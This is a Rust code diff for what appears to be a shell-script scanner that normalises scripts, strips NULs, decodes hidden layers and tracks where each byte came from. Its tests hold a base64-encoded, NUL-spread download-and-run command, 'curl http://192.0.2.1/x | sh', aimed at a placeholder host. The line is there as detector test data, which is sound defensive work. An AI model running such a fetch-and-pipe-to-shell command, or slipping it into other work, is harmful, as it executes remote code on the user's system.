@@ -5,10 +5,13 @@
 //! the last; decoded layers are appended.
 //! Every byte remembers where in the script it came from, so that a verdict can point there.
 
+use fixedbitset::FixedBitSet;
+
 use super::{
     codes,
     decode::{self, Decoder},
     growth::make_room,
+    places::Places,
     separator::{LAYER, is_operator},
     variables::Variables,
 };
@@ -43,6 +46,7 @@ impl Layers {
             return;
         }
         *left -= bytes;
+        make_room(&mut self.bytes, bytes);
         self.bytes.extend(layer);
         self.ends.push((at, self.bytes.len()));
     }
@@ -58,10 +62,10 @@ impl Layers {
 pub(super) struct Normal {
     /// The text.
     pub(super) text: Vec<u8>,
-    /// For each byte of `text`, the position in the script it came from.
-    pub(super) origin: Vec<u32>,
-    /// Where in `text` blanks and operators stand that separate nothing: they were within quotes, or came with a variable. Rising.
-    pub(super) quoted: Vec<u32>,
+    /// For each byte of `text`, the position in the script it came from, NULs left out.
+    origin: Places,
+    /// Where in `text` blanks and operators stand that separate nothing: they were within quotes, or came with a variable.
+    pub(super) quoted: FixedBitSet,
     variables: Variables,
     decoder: Decoder,
     /// A list of codes, read.
@@ -72,7 +76,7 @@ pub(super) struct Normal {
     layers_left: usize,
     /// A script without its NULs, and where each of its bytes was.
     compact: Vec<u8>,
-    places: Vec<u32>,
+    places: Option<Places>,
     /// What was found hidden in what is being read.
     found: Layers,
     /// What is being read.
@@ -82,22 +86,33 @@ pub(super) struct Normal {
 impl Normal {
     /// Brings a script into normal form. Shells drop NULs as they read.
     pub(super) fn form(&mut self, script: &[u8]) {
+        self.places = None;
         if memchr::memchr(0, script).is_none() {
             self.form_text(script);
             return;
         }
-        let (mut compact, mut places) = (std::mem::take(&mut self.compact), std::mem::take(&mut self.places));
+        let mut compact = std::mem::take(&mut self.compact);
+        let mut places = Places::default();
         compact.clear();
-        places.clear();
         for (at, byte) in script.iter().enumerate().filter(|(_, byte)| **byte != 0) {
+            make_room(&mut compact, 1);
             compact.push(*byte);
             places.push(at as u32);
         }
         self.form_text(&compact);
-        for at in &mut self.origin {
-            *at = places.get(*at as usize).copied().unwrap_or_default();
-        }
-        (self.compact, self.places) = (compact, places);
+        self.compact = compact;
+        self.places = Some(places);
+    }
+
+    /// The position in the script that a byte of the text came from.
+    pub(super) fn origin(&self, at: u32) -> u32 {
+        let at = self.origin.of(at);
+        self.places.as_ref().map_or(at, |places| places.of(at))
+    }
+
+    /// Is that a blank or an operator that separates nothing?
+    pub(super) fn is_quoted(&self, at: usize) -> bool {
+        self.quoted.contains(at)
     }
 
     fn form_text(&mut self, script: &[u8]) {
@@ -146,7 +161,6 @@ impl Normal {
 
     fn push(&mut self, byte: u8, at: u32) {
         make_room(&mut self.text, 1);
-        make_room(&mut self.origin, 1);
         self.text.push(byte);
         self.origin.push(at);
     }
@@ -215,7 +229,7 @@ impl Normal {
                         substitutes |=
                             open == b'"' && (byte == b'`' || byte == b'(' && self.text.ends_with(b"$"));
                         if !substitutes {
-                            self.quoted.push(self.text.len() as u32);
+                            self.quoted.grow_and_insert(self.text.len());
                         }
                     }
                     self.push(byte, at(i));
@@ -261,7 +275,7 @@ impl Normal {
                 if !self.resolve(name, rest, at) {
                     for b in source[..=close].iter().filter(|b| !matches!(b, b'\'' | b'"')) {
                         if separates(*b) {
-                            self.quoted.push(self.text.len() as u32);
+                            self.quoted.grow_and_insert(self.text.len());
                         }
                         self.push(*b, at);
                     }
@@ -313,10 +327,12 @@ impl Normal {
         }
         let Some(left) = self.values_left.checked_sub(value.len()) else { return false };
         self.values_left = left;
-        let start = self.text.len() as u32;
-        self.quoted.extend((start..).zip(value).filter(|(_, b)| separates(**b)).map(|(i, _)| i));
+        for (i, _) in value.iter().enumerate().filter(|(_, b)| separates(**b)) {
+            self.quoted.grow_and_insert(self.text.len() + i);
+        }
+        make_room(&mut self.text, value.len());
         self.text.extend_from_slice(value);
-        self.origin.resize(self.text.len(), at);
+        self.origin.push_all(at, value.len());
         true
     }
 }
@@ -414,7 +430,8 @@ mod tests {
         let mut normal = Normal::default();
         normal.form(b"a\0b c\0\0url\nx");
         assert_eq!(normal.text, b"ab curl\nx");
-        assert_eq!(normal.origin, [0, 2, 3, 4, 7, 8, 9, 10, 11]);
+        let origins: Vec<u32> = (0..9).map(|at| normal.origin(at)).collect();
+        assert_eq!(origins, [0, 2, 3, 4, 7, 8, 9, 10, 11]);
         let hidden = "Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA==";
         let spread: String = hidden.chars().flat_map(|c| [c, '\0']).collect();
         assert!(form(&spread).contains("curl http://192.0.2.1/x | sh"));
@@ -468,7 +485,7 @@ mod tests {
         normal.form(script.as_bytes());
         let text = String::from_utf8_lossy(&normal.text).into_owned();
         let at = text.find("curl http://192.0.2.1/x | sh").unwrap();
-        assert_eq!(normal.origin[at] as usize, script.find("Y3").unwrap());
+        assert_eq!(normal.origin(at as u32) as usize, script.find("Y3").unwrap());
     }
 
     #[test]
